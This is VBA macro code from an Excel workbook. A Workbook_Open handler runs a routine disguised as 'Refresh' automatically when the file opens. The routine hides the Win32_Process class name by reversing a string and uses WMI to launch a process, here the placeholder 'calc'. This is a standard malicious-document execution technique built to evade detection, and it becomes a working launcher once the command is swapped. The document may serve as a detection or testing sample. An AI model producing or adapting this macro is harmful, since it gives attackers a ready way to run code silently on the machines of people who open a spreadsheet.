Attribute VB_Name = "ThisWorkbook"
Private Sub Workbook_Open()
  Refresh
End Sub
Attribute VB_Name = "Module1"
Function Name2(t)
  Name2 = StrReverse(t)
End Function
Sub Refresh()
  Set o = GetObject("winmgmts:" & "root\cimv2")
  o.Get(Name2("ssecorP_23niW")).Create "calc", Null, Null, i
End Sub
